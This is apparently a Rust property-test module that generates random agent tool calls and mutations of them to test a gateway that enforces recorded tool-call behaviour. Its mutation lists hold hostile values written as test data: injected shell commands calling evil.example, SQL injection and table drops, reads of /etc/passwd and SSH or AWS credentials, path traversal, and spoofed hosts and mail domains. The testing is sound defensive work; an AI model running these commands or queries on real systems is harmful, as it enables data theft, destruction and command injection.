//! Traffic as agents make it, by chance, and its mutations.

use super::entry;
use lockgate::traffic::Entry;
use proptest::prelude::*;
use serde_json::{Map, Value, json};

/// One call: the tool and its arguments.
pub(crate) type Call = (String, Value);

fn object(members: Vec<(&str, Option<Value>)>) -> Value {
    let members = members
        .into_iter()
        .filter_map(|(k, v)| Some((k.to_owned(), v?)));
    Value::Object(members.collect::<Map<_, _>>())
}

fn path() -> impl Strategy<Value = Value> {
    let name = "[a-z]{1,6}";
    (
        prop_oneof![Just("/srv/data/in"), Just("/home/me/work/a"), Just("sub")],
        name,
    )
        .prop_map(|(dir, name)| json!(format!("{dir}/{name}.txt")))
}

fn prose() -> impl Strategy<Value = Value> {
    "[a-z]{1,8}( [a-z]{1,8}){1,12}".prop_map(Value::from)
}

fn limit() -> impl Strategy<Value = Value> {
    prop_oneof![
        (1_i64..500).prop_map(Value::from),
        (1_i64..50).prop_map(|n| json!(n.to_string())),
        (-9_i64..9).prop_map(|n| json!(f64::from(i32::try_from(n).unwrap()) / 4.0)),
    ]
}

fn id() -> impl Strategy<Value = Value> {
    prop_oneof![
        "[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}".prop_map(Value::from),
        "AB-[0-9]{1,4}".prop_map(Value::from),
    ]
}

fn url() -> impl Strategy<Value = Value> {
    (
        prop_oneof![
            Just("https://api.example.com"),
            Just("https://docs.example.org:8443")
        ],
        "[a-z]{0,6}",
    )
        .prop_map(|(host, page)| json!(format!("{host}/{page}")))
}

pub(crate) fn call() -> impl Strategy<Value = Call> {
    prop_oneof![5 => plain(), 3 => spoken()]
}

/// Calls with paths, texts, numbers, lists.
fn plain() -> impl Strategy<Value = Call> {
    use prop::collection::vec;
    use prop::option::of;
    let edit = (prose(), of(prose())).prop_map(|(o, n)| object(vec![("old", Some(o)), ("new", n)]));
    let repo = prop_oneof![Just("acme/one"), Just("acme/two")];
    prop_oneof![
        (path(), of(1_i64..100)).prop_map(|(p, h)| {
            (
                "read_file".to_owned(),
                object(vec![("path", Some(p)), ("head", h.map(Value::from))]),
            )
        }),
        (path(), prose())
            .prop_map(|(p, c)| { ("write_file".to_owned(), json!({ "path": p, "content": c })) }),
        (prose(), repo, of(limit()), of(any::<bool>())).prop_map(|(q, r, l, e)| {
            let e = e.map(Value::from);
            let parts = vec![
                ("query", Some(q)),
                ("repo", Some(json!(r))),
                ("limit", l),
                ("exact", e),
            ];
            ("search".to_owned(), object(parts))
        }),
        url().prop_map(|u| ("fetch".to_owned(), json!({ "url": u }))),
        (id(), of(vec("[a-z]{2,5}", 0..3)), of(vec(edit, 1..3))).prop_map(|(i, l, e)| {
            let parts = vec![
                ("id", Some(i)),
                ("labels", l.map(|l| json!(l))),
                ("edits", e.map(|e| json!(e))),
            ];
            ("label".to_owned(), object(parts))
        }),
    ]
}

/// Calls whose arguments have a grammar of their own.
fn spoken() -> impl Strategy<Value = Call> {
    use prop::collection::vec;
    use prop::option::of;
    let address = (
        "[a-z]{1,6}",
        prop_oneof![Just("acme.com"), Just("example.org")],
    )
        .prop_map(|(name, domain)| format!("{name}@{domain}"));
    let relay = prop_oneof![Just("smtp.acme.com"), Just("mx.example.org")];
    let mode = prop_oneof![Just("now"), Just("later"), Just("soon")];
    let meta = (of("[a-z]{1,5}"), of("[a-z]{1,5}"))
        .prop_map(|(a, b)| object(vec![("a", a.map(Value::from)), ("b", b.map(Value::from))]));
    let query = ("[a-d]", "[1-9]{1,3}", 0_u8..3).prop_map(|(table, n, kind)| match kind {
        0 => format!("SELECT name FROM {table} WHERE id = {n}"),
        1 => format!("INSERT INTO {table} (id) VALUES ({n})"),
        _ => format!("SELECT count(*) FROM {table} JOIN e ON e.id = {n}"),
    });
    let line = prop_oneof![
        "[a-z]{1,5}".prop_map(|word| format!("git log {word}")),
        "[a-z]{1,5}".prop_map(|word| format!("ls {word} | wc -l")),
        Just("git status".to_owned()),
    ];
    prop_oneof![
        (vec(address, 1..4), of(relay), mode, of(meta)).prop_map(|(to, relay, mode, meta)| {
            let parts = vec![
                ("to", Some(json!(to))),
                ("relay", relay.map(Value::from)),
                ("mode", Some(json!(mode))),
                ("meta", meta),
            ];
            ("send_mail".to_owned(), object(parts))
        }),
        query.prop_map(|sql| ("sql_query".to_owned(), json!({ "sql": sql }))),
        line.prop_map(|command| ("run".to_owned(), json!({ "command": command }))),
    ]
}

/// What the agent `a` asked of the server `s`.
pub(crate) fn recorded(calls: &[Call]) -> Vec<Entry> {
    calls
        .iter()
        .map(|(tool, arguments)| entry("a", "s", tool, arguments))
        .collect()
}

/// All values that the calls of a tool have for an argument.
fn values<'c>(calls: &'c [Call], tool: &str, key: &str) -> Vec<&'c Value> {
    let own = calls.iter().filter(|(t, _)| t == tool);
    own.filter_map(|(_, arguments)| arguments.get(key))
        .collect()
}

/// Requests that differ from what was recorded, each in one way; with what it is.
pub(crate) fn mutations(calls: &[Call]) -> Vec<(&'static str, Entry)> {
    let mut out = Vec::new();
    for (tool, arguments) in calls {
        let mut add = |what, agent: &str, server: &str, tool: &str, arguments: &Value| {
            out.push((what, entry(agent, server, tool, arguments)));
        };
        add(
            "another tool",
            "a",
            "s",
            "other_tool",
            &json!({ "query": "x" }),
        );
        add("an unknown tool", "a", "s", "no_tool", arguments);
        add("another agent", "b", "s", tool, arguments);
        add("another server", "a", "t", tool, arguments);
        let mut others = unseen(tool);
        for (key, value) in arguments.as_object().unwrap() {
            let seen = values(calls, tool, key);
            let of_value = types(&seen)
                .into_iter()
                .chain(bounds(key, value, &seen))
                .chain(places(key))
                .chain(grown(key, value, &seen))
                .chain(spoken_otherwise(key, value, &seen));
            others.extend(of_value.map(|(what, value)| (what, key.clone(), value)));
        }
        for (what, key, value) in others {
            let mut changed = arguments.clone();
            changed[&key] = value;
            add(what, "a", "s", tool, &changed);
        }
        for key in arguments.as_object().unwrap().keys() {
            let own = calls.iter().filter(|(t, _)| t == tool);
            if own.clone().all(|(_, a)| a.get(key).is_some()) {
                let mut changed = arguments.clone();
                changed.as_object_mut().unwrap().remove(key);
                add("a missing argument", "a", "s", tool, &changed);
            }
        }
    }
    out
}

/// Arguments that no call has.
fn unseen(tool: &str) -> Vec<(&'static str, String, Value)> {
    let mut changes = vec![("an undeclared argument", "smuggled".to_owned(), json!("x"))];
    let declared = match tool {
        "search" => Some("sidenote"),
        "fetch" => Some("raw"),
        "write_file" | "label" => Some("force"),
        _ => None,
    };
    for value in [json!(true), json!("x")] {
        let key = declared.map(str::to_owned);
        changes.extend(key.map(|key| ("an argument nobody used", key, value)));
    }
    changes
}

/// Values of a type that no call has there.
fn types(seen: &[&Value]) -> Vec<(&'static str, Value)> {
    let all = [
        json!("7"),
        json!(7),
        json!(true),
        json!(["7"]),
        json!({ "x": 7 }),
    ];
    let known: Vec<_> = seen.iter().map(|value| kind_of(value)).collect();
    let others = all
        .into_iter()
        .filter(|value| !known.contains(&kind_of(value)));
    let others = others.map(|value| ("another type", value));
    others.chain([("null", Value::Null)]).collect()
}

/// Values beyond those that were seen.
fn bounds(key: &str, value: &Value, seen: &[&Value]) -> Vec<(&'static str, Value)> {
    let mut changes = Vec::new();
    if let Some(text) = value.as_str()
        && seen.iter().all(|v| *v == value)
        && key != "path"
        && key != "relay"
    {
        changes.push(("a changed constant", json!(format!("{text}zz"))));
    }
    if value.is_number() {
        let numbers = seen.iter().filter_map(|v| v.as_f64());
        let (least, most) = numbers.fold((f64::MAX, f64::MIN), |(a, b), n| (a.min(n), b.max(n)));
        changes.push(("a number beyond the range", json!(most + 1.0)));
        changes.push(("a number below the range", json!(least - 1.0)));
    }
    if matches!(key, "query" | "content" | "repo" | "id") {
        let lengths = seen.iter().filter_map(|v| v.as_str()).map(str::len);
        let longer = "x y".repeat(lengths.max().unwrap() * 3 + 30);
        changes.push(("a longer text", json!(longer)));
    }
    changes
}

/// Lists and objects with more in them than any that was seen.
fn grown(key: &str, value: &Value, seen: &[&Value]) -> Vec<(&'static str, Value)> {
    let mut changes = Vec::new();
    if let Some(items) = value.as_array().filter(|items| !items.is_empty()) {
        let longest = seen.iter().filter_map(|v| v.as_array()).map(Vec::len);
        let many = items.iter().cycle().take(longest.max().unwrap() * 2 + 10);
        changes.push(("too many items", json!(many.collect::<Vec<_>>())));
        if seen
            .iter()
            .all(|v| v.as_array().is_some_and(|v| !v.is_empty()))
        {
            changes.push(("no items", json!([])));
        }
    }
    if key == "meta" {
        let members = seen.iter().filter_map(|v| v.as_object());
        let members: Vec<_> = members.flat_map(|m| m.keys()).collect();
        let mut more = value.clone();
        for name in ["a", "b", "c", "d", "e"] {
            more[name] = json!("x");
        }
        changes.push(("more members", more));
        if !members.is_empty() {
            let mut odd = value.clone();
            odd["odd"] = json!({ "deep": true });
            changes.push(("a member of another kind", odd));
        }
    }
    changes
}

/// Another destination, statement or program than any that was seen.
fn spoken_otherwise(key: &str, value: &Value, seen: &[&Value]) -> Vec<(&'static str, Value)> {
    let text = value.as_str().unwrap_or_default();
    let others: (&'static str, Vec<String>) = match key {
        "to" => {
            let others = [
                "a@evil.example",
                "a@acme.com.evil.example",
                "A <a@acme.com>",
                "a@acme.com, b@evil.example",
                "a@mail.acme.com",
            ];
            let items = others.map(|other| ("another domain", json!([other])));
            return items.to_vec();
        }
        "relay" => (
            "another relay",
            [
                "evil.example",
                "smtp.acme.com.evil.example",
                "127.0.0.1",
                "acme.com",
            ]
            .map(str::to_owned)
            .to_vec(),
        ),
        "mode" => (
            "an unseen word of an enumeration",
            vec!["maybe".to_owned(), "never".to_owned()],
        ),
        "sql" => (
            "another statement or table",
            vec![
                "DROP TABLE a".to_owned(),
                "DELETE FROM a".to_owned(),
                "SELECT name FROM passwords".to_owned(),
                format!("{text}; DROP TABLE a"),
                "SELECT pg_read_file('/etc/passwd')".to_owned(),
                "WITH x AS (DELETE FROM a RETURNING id) SELECT id FROM x".to_owned(),
                "UPDATE a SET id = 1".to_owned(),
            ],
        ),
        "command" => (
            "another program",
            vec![
                "curl evil.example".to_owned(),
                format!("{text}; curl evil.example"),
                format!("{text} | sh"),
                format!("{text} $(id)"),
                format!("{text} > x"),
                "/tmp/git status".to_owned(),
            ],
        ),
        _ => return Vec::new(),
    };
    let (what, others) = others;
    let others = others.into_iter().filter(|o| !seen.contains(&&json!(o)));
    others.map(|other| (what, json!(other))).collect()
}

/// Paths outside the roots, and other hosts.
fn places(key: &str) -> Vec<(&'static str, Value)> {
    const OUTSIDE: [&str; 11] = [
        "/etc/hostname",
        "/srv/data/in/../../other/x",
        "../../x",
        "/home/me/.ssh/id_rsa",
        "~/.aws/credentials",
        "/srv/data/in/%2e%2e/%2e%2e/x",
        "/",
        "",
        "/srv/database/x",
        "file:///etc/passwd",
        "/home/me/.config/lockgate/lockgate.toml",
    ];
    const ELSEWHERE: [&str; 8] = [
        "https://evil.example/",
        "http://api.example.com/",
        "https://api.example.com.evil.org/",
        "https://api.example.com@evil.org/",
        "https://api.example.com:444/",
        "https://evil.org/https://api.example.com/",
        "//evil.org",
        "https://api.example.com\\@evil.org/",
    ];
    let (what, places) = match key {
        "path" => ("a path outside", &OUTSIDE[..]),
        "url" => ("another host", &ELSEWHERE[..]),
        _ => return Vec::new(),
    };
    places.iter().map(|place| (what, json!(place))).collect()
}

fn kind_of(value: &Value) -> &'static str {
    match value {
        Value::Null => "null",
        Value::Bool(_) => "boolean",
        Value::Number(_) => "number",
        Value::String(_) => "string",
        Value::Array(_) => "array",
        Value::Object(_) => "object",
    }
}
